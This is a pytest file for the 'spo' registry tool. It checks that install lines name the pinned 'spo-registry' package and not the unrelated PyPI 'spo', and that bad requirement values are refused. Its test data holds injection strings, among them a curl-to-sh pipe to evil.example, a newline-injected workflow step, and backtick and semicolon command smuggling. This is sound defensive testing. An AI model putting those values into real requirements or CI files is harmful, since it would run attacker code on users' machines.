"""spo installs as spo-registry, never as `spo` (on PyPI that is another project's code), and a
registry that `spo init` starts installs exactly the release that started it, or the requirement
the office gives for its own fork.

Every install line in this repository (README, workflows, the action, the hook, CI, the templates)
and in every file `spo init` writes is read here; one that would install anything else as spo
fails the suite.
"""

from __future__ import annotations

import re
import shlex
import subprocess
import tomllib
from pathlib import Path

import pytest
import yaml
from packaging.requirements import InvalidRequirement, Requirement
from packaging.utils import canonicalize_name

import spo
from tests.conftest import run_spo

REPO = Path(__file__).resolve().parent.parent
OURS = "spo-registry"
PINNED = f"{OURS}=={spo.__version__}"
# What else an install line of ours may name: tools used beside spo, each on purpose.
OTHER_TOOLS = {"pip", "pre-commit", "datasette", "build", "twine", "pytest"}

INSTALL = re.compile(r"\bpip3?\s+install\b(?P<args>[^`\n]*)")
ADDITIONAL = re.compile(r"additional_dependencies:\s*(?P<list>\[.*\])")
# The bare name in the forms people copy: a PyPI page, a URL requirement, a YAML flow list (not
# a Markdown link).
BARE = re.compile(
    r"pypi\.org/project/spo/|[\"'\s]spo\s*@\s*git\+|\[spo\](?!\()|pip install spo\b(?!-)"
)
# Options of `pip install` that take a value (the value is not a requirement).
WITH_VALUE = {"-c", "--constraint", "-r", "--requirement", "-i", "--index-url", "-t", "--target"}


def _arguments(line: str) -> list[str]:
    """What one `pip install ...` names, without its options and whatever follows the command."""
    try:
        words = shlex.split(line, comments=True)
    except ValueError:
        words = line.split()
    named: list[str] = []
    skip = False
    for word in words:
        if word in {"&&", "||", ";", "|", ")"} or word.startswith(("&&", ";")):
            break
        if word.endswith(")"):  # the command ends inside parentheses in a sentence
            words_left = word.removesuffix(")")
            if not skip and words_left and not words_left.startswith("-"):
                named.append(words_left)
            break
        if skip:
            skip = False
        elif word in WITH_VALUE:
            skip = True
        elif not word.startswith("-"):
            named.append(word)
    return named


def _wrong(word: str) -> str | None:
    """Why `word` must not be installed by a line of ours; None when it is fine."""
    if word.startswith((".", "/", "$", "dist/")) or word.endswith(".whl"):
        return None  # this checkout, the action's own folder, a wheel just built
    try:
        requirement = Requirement(word)
    except InvalidRequirement:
        return f"not a requirement: {word!r}"
    name = canonicalize_name(requirement.name)
    if name in OTHER_TOOLS:
        return None
    if name != OURS:
        return f"installs {requirement.name!r}, not {OURS}"
    if str(requirement.specifier) == f"=={spo.__version__}":
        return None
    if requirement.url and requirement.url.endswith(f"@v{spo.__version__}"):
        return None
    return f"{word!r} is not this release ({spo.__version__})"


def problems_in(text: str, where: str) -> list[str]:
    found = [f"{where}: names the bare 'spo'" for _ in BARE.finditer(text)]
    for match in INSTALL.finditer(text):
        found += [f"{where}: {why}" for w in _arguments(match["args"]) if (why := _wrong(w))]
    for match in ADDITIONAL.finditer(text):
        for item in yaml.safe_load(match["list"]):
            if str(item) != PINNED and (why := _wrong(str(item))) is not None:
                found.append(f"{where}: additional dependency {why}")
    return found


def _repository_files() -> list[Path]:
    listed = subprocess.run(
        ["git", "ls-files"], cwd=REPO, capture_output=True, text=True, check=False
    )
    if listed.returncode != 0:
        pytest.skip("not a git checkout: the files of the repository cannot be listed")
    names = [n for n in listed.stdout.splitlines() if not n.startswith(("tests/", "data/"))]
    return [REPO / n for n in names if not n.endswith((".py", ".csv", ".json", ".png"))]


def test_no_install_line_in_the_repository_installs_another_spo() -> None:
    files = _repository_files()
    assert REPO / "action.yml" in files and REPO / ".ci/run" in files
    found: list[str] = []
    lines = 0
    for path in files:
        text = path.read_text(encoding="utf-8")
        where = path.relative_to(REPO).as_posix()
        if where == "CHANGELOG.md":  # it keeps every release's own install lines
            found += [f"{where}: names the bare 'spo'" for _ in BARE.finditer(text)]
            continue
        lines += len(INSTALL.findall(text))
        found += problems_in(text, where)
    assert found == []
    assert lines >= 8  # the README's, CI's, the action's, the templates'...


@pytest.mark.parametrize(
    "line",
    [
        "pip install spo",
        "pip install -q spo==0.0.1",
        'pip install "spo @ git+https://github.com/x/spo@v1"',
        "additional_dependencies: [spo]",
        "additional_dependencies: [spo-registry]",
        "pip install spo-registry==0.0.9",
        "pip install requests && spo validate",
        "(pip install spo) and then",
        "see https://pypi.org/project/spo/",
    ],
)
def test_the_reader_of_install_lines_catches_what_would_install_another_spo(line: str) -> None:
    assert problems_in(line, "x") != []


def test_every_file_spo_init_writes_installs_exactly_this_release(tmp_path: Path) -> None:
    root = tmp_path / "keskin"
    assert run_spo("init", str(root), "--province", "Kırıkkale").exit_code == 0

    found: list[str] = []
    installs: list[str] = []
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        text = path.read_text(encoding="utf-8")
        found += problems_in(text, path.name)
        installs += [w for m in INSTALL.finditer(text) for w in _arguments(m["args"])]
        installs += [i for m in ADDITIONAL.finditer(text) for i in yaml.safe_load(m["list"])]
    assert found == []
    # the workflow, the README, the hook; and pre-commit itself, twice
    assert sorted(installs) == sorted([PINNED, PINNED, PINNED, "pre-commit", "pre-commit"])


FORK = "spo-registry @ git+https://github.com/keskin-bld/spo@v0.1.0-keskin#egg=spo-registry"


@pytest.mark.parametrize(
    "given",
    [
        PINNED,
        f"SPO_Registry=={spo.__version__}",  # pip's own name folding
        f"spo-registry[web]=={spo.__version__}",
        f"spo-registry==={spo.__version__}",
        "spo-registry @ git+ssh://git@github.com/keskin/spo.git@v1.0#egg=spo-registry",
        "spo-registry @ https://files.example/spo_registry-0.1.0-py3-none-any.whl",
        "spo-registry @ file:///srv/spo",
    ],
)
def test_a_requirement_for_one_release_is_written_as_given(tmp_path: Path, given: str) -> None:
    root = tmp_path / "r"
    run = run_spo("init", str(root), "--province", "Artvin", "--spo-requirement", given)
    assert (run.exit_code, run.stderr) == (0, "")
    hooks = yaml.safe_load((root / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    assert hooks["repos"][0]["hooks"][0]["additional_dependencies"] == [given]


def test_an_office_that_installs_from_its_own_fork_gets_that_everywhere(tmp_path: Path) -> None:
    root = tmp_path / "keskin"
    run = run_spo("init", str(root), "--province", "Kırıkkale", "--spo-requirement", FORK)
    assert (run.exit_code, run.stderr) == (0, "")

    hooks = yaml.safe_load((root / ".pre-commit-config.yaml").read_text(encoding="utf-8"))
    assert hooks["repos"][0]["hooks"][0]["additional_dependencies"] == [FORK]
    workflow = yaml.safe_load((root / ".github/workflows/validate.yml").read_text(encoding="utf-8"))
    step = workflow["jobs"]["validate"]["steps"][2]["run"]
    assert shlex.split(step) == ["pip", "install", FORK]
    readme = (root / "README.md").read_text(encoding="utf-8")
    assert f"\n{shlex.join(['pip', 'install', FORK])}\n" in readme


@pytest.mark.parametrize(
    ("given", "why"),
    [
        ("spo", "other"),
        ("spo==0.0.1", "other"),
        ("spo @ git+https://github.com/x/spo@v1", "other"),
        ("requests", "other"),
        ("spo-registry; python_version < '3.12'", "bad"),  # a quote: refused before parsing
        ("spo-registry==0.1.0;os_name==sys_platform", "bad"),  # pip reads a marker after ";"
        ("spo-registry@https://x.example/spo.whl;os_name==sys_platform", "bad"),
        ("spo-registry @ https://x.example/a;id", "bad"),
        ("spo-registry @ git+https://github.com/x/spo@${{ github.token }}", "bad"),
        ("spo-registry==0.1.0 && curl https://evil.example | sh", "bad"),
        ("spo-registry\n      - run: curl https://evil.example", "bad"),
        ("spo-registry @ git+https://github.com/x/spo@`id`", "bad"),
        ("spo-registry @ x", "bad"),  # no scheme: pip refuses it
        ("spo-registry @ ../evil", "bad"),
        ("spo-registry @ http://x.example/spo.whl", "bad"),  # fetched in the clear
        ("spo-registry==" + "1" * 600, "bad"),
        ("spo-registry==", "bad"),
        ("", "bad"),
        ("   ", "bad"),
        ("spo-registry", "unpinned"),
        ("spo-registry>=0.1", "unpinned"),
        ("spo-registry==0.1.*,!=0.1.1", "unpinned"),
        ("spo-registry==0.1.*", "unpinned"),
        ("\x1b[31mspo-registry", "bad"),
    ],
)
def test_a_requirement_that_would_not_install_spo_safely_is_refused_and_nothing_written(
    tmp_path: Path, given: str, why: str
) -> None:
    root = tmp_path / "keskin"

    run = run_spo("init", str(root), "--province", "Kırıkkale", "--spo-requirement", given)

    # the terminal never gets a raw control character, nor a line the value made
    shown = given.replace("\x1b", "\\x1b").replace("\n", "\\n")
    expected = {
        "other": f"spo: --spo-requirement: '{shown}' does not install spo; spo's distribution "
        "is 'spo-registry' (the 'spo' on PyPI is another project)\n",
        "bad": f"spo: --spo-requirement: '{shown}' is not a pip requirement; for example "
        f"'{PINNED}' or 'spo-registry @ git+https://github.com/OWNER/spo@v{spo.__version__}'\n",
        "unpinned": f"spo: --spo-requirement: '{shown}' does not name one release; give a "
        f"version such as '{PINNED}', or the address of a tag, so that the registry is always "
        "checked by the same spo\n",
    }[why]
    assert (run.exit_code, run.stdout) == (2, "")
    assert run.stderr == expected
    assert not root.exists()


def test_the_refusal_is_told_in_turkish(tmp_path: Path) -> None:
    run = run_spo(
        "--lang", "tr", "init", str(tmp_path / "k"), "--province", "Artvin",
        "--spo-requirement", "spo",
    )  # fmt: skip
    assert (run.exit_code, run.stderr) == (
        2,
        "spo: --spo-requirement: 'spo' spo'yu kurmaz; spo'nun dağıtımının adı 'spo-registry' "
        "(PyPI'deki 'spo' başka bir proje)\n",
    )


def test_the_version_is_written_once_and_shown_by_spo_version() -> None:
    from importlib.metadata import version

    pyproject = (REPO / "pyproject.toml").read_text(encoding="utf-8")
    assert f'name = "{OURS}"' in pyproject
    assert 'dynamic = ["version"]' in pyproject
    assert 'version = { attr = "spo.__version__" }' in pyproject
    assert "version" not in tomllib.loads(pyproject)["project"]
    assert spo.DISTRIBUTION == OURS
    assert version(OURS) == spo.__version__
    assert run_spo("--version").stdout == f"spo {spo.__version__}\n"
